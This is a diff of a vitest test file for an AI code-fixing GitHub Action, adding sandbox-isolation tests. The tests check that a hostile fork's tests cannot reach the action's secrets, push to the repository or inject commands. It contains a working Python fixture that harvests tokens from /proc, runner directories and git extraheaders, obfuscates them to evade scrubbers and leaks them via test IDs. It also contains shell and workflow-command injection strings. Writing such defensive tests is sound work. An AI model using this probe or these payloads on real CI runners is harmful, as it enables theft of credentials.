@@ -4,9 +4,11 @@
 // description), a real local bare repository as the remote, pytest run for real in the
 // sandbox on the runner (the verifier), and the model-free template strategy.
 import { execFileSync } from "node:child_process";
-import { mkdtemp, writeFile } from "node:fs/promises";
+import { existsSync } from "node:fs";
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { fileURLToPath } from "node:url";
 import { beforeEach, describe, expect, it } from "vitest";
 import { fakeActions, type FakeGitHubState } from "../support/fake-github.ts";
 import { ciRun } from "../support/fake-actions-runner.ts";
@@ -14,6 +16,7 @@ import { gitRepo } from "../support/git-repo.ts";
 import { runAction, type ActionRun } from "../support/run-action.ts";
 import { webhookExample } from "../support/webhook-examples.ts";
 
+const ROOT = fileURLToPath(new URL("../../", import.meta.url));
 const TOKEN = "ghs_actionTokenForTests0123456789";
 const LLM_KEY = "sk-action-llm-key-0123456789";
 const CART_OK = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal - discount\n";
@@ -24,6 +27,90 @@ const TESTS = `import pytest\n\nfrom shop.cart import total\n\n\n@pytest.mark.pa
 const PLAIN_TESTS = TESTS.replace(`"${EVIL_ID}"`, '"a"');
 // Fails when the action's token or the model key reached the repository's test processes.
 const ENV_TEST = `import os\n\n\ndef test_no_secret_in_environment():\n    leaked = [k for k, v in os.environ.items() if "${TOKEN.slice(0, 12)}" in v or "${LLM_KEY.slice(0, 12)}" in v]\n    assert leaked == []\n`;
+/** Shifted by one code point: how the fork's probe writes what it found, so the scrubber cannot recognise it. */
+const shifted = (text: string) => [...text].map((c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 1)).join("");
+// A fork's test that hunts for the action's secrets wherever a test process could look, tries
+// to push with whatever credentials it finds, and tries to write the step's outputs and summary.
+const HOSTILE_FORK_TEST = `import base64
+import glob
+import os
+import re
+import subprocess
+
+import pytest
+
+# Reversed here, so this file (in the checkout the probe also searches) does not hold them.
+CANARIES = [c[::-1] for c in ["${[...TOKEN.slice(0, 12)].reverse().join("")}", "${[...LLM_KEY.slice(0, 12)].reverse().join("")}"]]
+
+
+def shifted(text):
+    return "".join(chr(ord(c) + 1) for c in text)
+
+
+def hits(where, data):
+    return [where + ":" + shifted(data[max(0, data.find(c) - 40) : data.find(c) + 60]) for c in CANARIES if c in data]
+
+
+def read(path):
+    try:
+        with open(path, "rb") as f:
+            return f.read(4_000_000).decode("latin-1")
+    except Exception:
+        return ""
+
+
+def runner_work_dirs():
+    # A self-hosted runner's _work (the checkout with actions/checkout's token, _temp), from where this checkout sits.
+    parts = os.getcwd().split(os.sep)
+    return [os.sep.join(parts[: parts.index("_work") + 1])] if "_work" in parts else []
+
+
+def probe():
+    found = []
+    for work in runner_work_dirs():
+        for path in glob.glob(work + "/**", recursive=True) + glob.glob(work + "/**/.git/config", recursive=True):
+            if os.path.isfile(path):
+                data = read(path)
+                found += hits(path, data)
+                for header in re.findall(r"basic ([A-Za-z0-9+/=]+)", data, re.IGNORECASE):
+                    found += hits(path + " (extraheader)", base64.b64decode(header).decode("latin-1"))
+    for name, value in os.environ.items():
+        found += hits("env " + name, name + "=" + value)
+    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
+        found += hits(path, read(path))
+    for pattern in ["/tmp/autogen-action-run-*/**", os.path.expanduser("~") + "/**", "/home/runner/work/_temp/**"]:
+        for path in glob.glob(pattern, recursive=True):
+            if os.path.isfile(path):
+                found += hits(path, read(path))
+    # The step's outputs and summary, if they were reachable.
+    for path in glob.glob("/tmp/autogen-action-run-*/output") + glob.glob("/tmp/autogen-action-run-*/summary.md"):
+        try:
+            with open(path, "a") as f:
+                f.write("pr-url=https://evil.example/\\n")
+        except Exception:
+            pass
+    # A push with whatever credentials git finds, to the checkout's remote and to any bare repository in reach.
+    remotes = ["origin"] + glob.glob("/tmp/autogen-action-*/remote.git")
+    for remote in remotes:
+        try:
+            subprocess.run(["git", "push", "--quiet", remote, "HEAD:refs/heads/pwned-by-fork"], timeout=30, capture_output=True)
+        except Exception:
+            pass
+    return found
+
+
+FOUND = probe()
+
+
+def test_fork_finds_no_secret():
+    assert FOUND == [], " ".join(FOUND)
+
+
+# Exfiltration through what the bot reports: the test ids (shifted, so no scrubber knows them).
+@pytest.mark.parametrize("leak", [f[-70:] for f in FOUND] or ["nothing"])
+def test_fork_reports(leak):
+    assert leak == "nothing"
+`;
 const CONFIG = 'triggers:\n  ciFailure: auto\ntest:\n  env:\n    PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1"\n';
 const INPUTS = { "github-token": TOKEN, "llm-base-url": "", "llm-api-key": "", model: "", strategy: "template", label: "autogen", "max-cost-usd": "", "max-attempts": "", "app-slug": "" };
 
@@ -178,6 +265,106 @@ describe("the GitHub Action", { timeout: 300_000 }, () => {
     expect(run.outputs).toMatchObject({ outcome: "fixed", branch: "", "pr-url": "" });
   });
 
+  it("a red build from a hostile fork: its tests, run with the action's token and key set, find neither anywhere (environment, /proc, the runner's files), cannot push or write the step's outputs; nothing is written to GitHub but the comment", async () => {
+    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
+    const { state, red } = await redPull(true, { "tests/test_hostile.py": HOSTILE_FORK_TEST });
+    const before = remoteRefs();
+    const run = await runAction({
+      event: "workflow_run",
+      payload: workflowRun(red),
+      state,
+      inputs: { ...INPUTS, "llm-base-url": "http://127.0.0.1:9/v1", "llm-api-key": LLM_KEY },
+      workspace: work,
+      env: { GITHUB_TOKEN: TOKEN, ACTIONS_RUNTIME_TOKEN: TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN: LLM_KEY },
+    });
+    expect(run.code, run.stderr + run.stdout).toBe(0);
+    expectHonestGitHub(run);
+    expectNoSecrets(run);
+    const written = [run.stdout, run.stderr, run.summary, JSON.stringify(run.outputs), JSON.stringify(run.github.requests)].join("\n");
+    // What the fork's test exfiltrates it writes shifted by one code point, a form no scrubber knows.
+    expect(written).not.toContain(shifted(TOKEN.slice(0, 12)));
+    expect(written).not.toContain(shifted(LLM_KEY.slice(0, 12)));
+    // The fork's probe passed in every run (it fails when it finds a secret), so the fix held with it in the suite.
+    const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
+    expect(status).toContain("This pull request comes from a fork, so autogen-bot does not push to it");
+    expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 4 passed, 0 failed\./);
+    // Nothing pushed (by the bot, or by the fork's `git push`), no branch, no PR; the outputs are the bot's, not the fork's.
+    expect(remoteRefs()).toBe(before);
+    expect(run.outputs).toEqual({ outcome: "fixed", branch: "", "pr-url": "" });
+    const writes = run.github.requests.filter((r) => r.method !== "GET").map((r) => r.operation);
+    expect(writes.filter((op) => op.startsWith("git/") || op.startsWith("pulls/"))).toEqual([]);
+    expect(writes).toContain("issues/create-comment");
+    expect(writes.filter((op) => !["issues/create-comment", "issues/update-comment", "reactions/create-for-issue", "checks/create", "checks/update"].includes(op))).toEqual([]);
+  });
+
+  it("on a self-hosted runner (its _work outside /home): the fork's tests cannot read the workflow's checkout (actions/checkout's token in .git/config) or the runner's temp directory", async () => {
+    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
+    const { state, red } = await redPull(true, { "tests/test_hostile.py": HOSTILE_FORK_TEST });
+    // The runner's layout, under the project (visible in the sandbox like any host directory): _work/<repo>/<repo> and _work/_temp.
+    await mkdir(join(ROOT, "test-artifacts"), { recursive: true });
+    const runner = await mkdtemp(join(ROOT, "test-artifacts", "runner-"));
+    try {
+      const checkout = join(runner, "_work", "shop", "shop");
+      const temp = join(runner, "_work", "_temp");
+      await mkdir(temp, { recursive: true });
+      execFileSync("git", ["clone", "--quiet", remote, checkout]);
+      // What actions/checkout (persist-credentials: true, its default) leaves in the checkout.
+      sh(checkout, "config", "--local", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`);
+      await writeFile(join(temp, "llm-key.txt"), `${LLM_KEY}\n`);
+      const run = await runAction({ event: "workflow_run", payload: workflowRun(red), state, inputs: { ...INPUTS, "llm-base-url": "http://127.0.0.1:9/v1", "llm-api-key": LLM_KEY }, workspace: checkout, env: { RUNNER_TEMP: temp } });
+      expect(run.code, run.stderr + run.stdout).toBe(0);
+      expectHonestGitHub(run);
+      const status = run.github.state.comments.find((c) => c.number === 7)?.body ?? "";
+      const written = [run.stdout, run.stderr, run.summary, JSON.stringify(run.github.requests)].join("\n");
+      expect(written).not.toContain(shifted(TOKEN.slice(0, 12)));
+      expect(written).not.toContain(shifted(LLM_KEY.slice(0, 12)));
+      expect(status).toMatch(/Regression gate \(full suite\): before \d+ passed, 1 failed; after 4 passed, 0 failed\./);
+      expect(run.outputs).toEqual({ outcome: "fixed", branch: "", "pr-url": "" });
+    } finally {
+      await rm(runner, { recursive: true, force: true });
+    }
+  });
+
+  it("a workflow_run payload that lies about a fork (its PR listed as in this repository, head_repository this one): GitHub's answer decides, nothing pushed", async () => {
+    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": PLAIN_TESTS });
+    const { state, red } = await redPull(true);
+    const before = remoteRefs();
+    const payload = workflowRun({ ...red, pull_requests: [{ number: 7 }] });
+    const same = payload.repository as Record<string, unknown>;
+    payload.workflow_run = { ...payload.workflow_run, head_repository: same, repository: same };
+    const run = await runAction({ event: "workflow_run", payload, state, inputs: INPUTS, workspace: work });
+    expect(run.code, run.stderr + run.stdout).toBe(0);
+    expectHonestGitHub(run);
+    expect(run.github.state.comments.find((c) => c.number === 7)?.body ?? "").toContain("This pull request comes from a fork, so autogen-bot does not push to it");
+    expect(remoteRefs()).toBe(before);
+    expect(run.github.requests.filter((r) => r.operation.startsWith("git/") || r.operation.startsWith("pulls/create"))).toEqual([]);
+    expect(run.outputs).toMatchObject({ outcome: "fixed", branch: "", "pr-url": "" });
+  });
+
+  it("hostile input values (newlines, workflow commands, shell metacharacters) start no command, set no output and run nothing", async () => {
+    await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
+    const state = baseState();
+    const marker = join(root, "pwned");
+    const evil = (name: string) => `x\n::warning::${name} injected\n::set-output name=outcome::pwned\n$(touch ${marker})\`touch ${marker}\`;touch ${marker}`;
+    // Accepted values (label, model): the event is no trigger for that label, so the job never starts.
+    const idle = await runAction({ event: "issues", payload: labeled(state), state, inputs: { ...INPUTS, label: evil("label").slice(0, 50), model: evil("model") }, workspace: work });
+    // Refused values (strategy, app-slug, max-attempts): one error annotation naming them, escaped.
+    const refused = await runAction({ event: "issues", payload: labeled(state), state, inputs: { ...INPUTS, strategy: evil("strategy"), "app-slug": evil("slug"), "max-attempts": evil("attempts") }, workspace: work });
+    expect(idle.code, idle.stderr + idle.stdout).toBe(0);
+    expect(idle.outputs).toEqual({ outcome: "skipped", "pr-url": "", branch: "" });
+    expect(refused.code).toBe(1);
+    expect(refused.outputs).toEqual({});
+    const commands = refused.stdout.split("\n").filter((l) => l.startsWith("::"));
+    expect(commands).toHaveLength(1);
+    expect(commands[0]).toMatch(/^::error::`strategy` is ".*`max-attempts` is ".*`app-slug` is "/);
+    for (const run of [idle, refused]) {
+      expect(run.stdout.split("\n").filter((l) => /^::(warning|set-output|add-mask|stop-commands|notice)/.test(l))).toEqual([]);
+      expect(run.stdout + run.stderr + run.summary).not.toMatch(/^::warning::/m);
+      expect(run.github.requests.filter((r) => r.method !== "GET")).toEqual([]);
+    }
+    expect(existsSync(marker)).toBe(false);
+  });
+
   it("`/autogen fix` in an issue comment starts the same job; a comment that is no command starts none (outcome skipped)", async () => {
     await bareRemote({ "shop/__init__.py": "", "shop/cart.py": CART_BAD, "tests/test_cart.py": PLAIN_TESTS });
     const state = baseState();
@@ -235,10 +422,12 @@ describe("the GitHub Action", { timeout: 300_000 }, () => {
 });
 
 /** main is green; a pull request (its branch, or for a fork only refs/pull/7/head) breaks the discount, and its CI ran red. */
-async function redPull(fork: boolean) {
+async function redPull(fork: boolean, extra: Record<string, string> = {}) {
   const baseSha = sh(work, "rev-parse", "HEAD");
   sh(work, "switch", "--quiet", "--create", "feature/bulk");
   await writeFile(join(work, "shop/cart.py"), CART_BAD);
+  for (const [path, text] of Object.entries(extra)) await writeFile(join(work, path), text);
+  sh(work, "add", "--all");
   sh(work, "-c", "user.name=Dev", "-c", "user.email=dev@example.invalid", "commit", "--quiet", "--all", "--message", "Break the discount");
   const headSha = sh(work, "rev-parse", "HEAD");
   sh(work, "push", "--quiet", remote, fork ? "HEAD:refs/pull/7/head" : "feature/bulk");
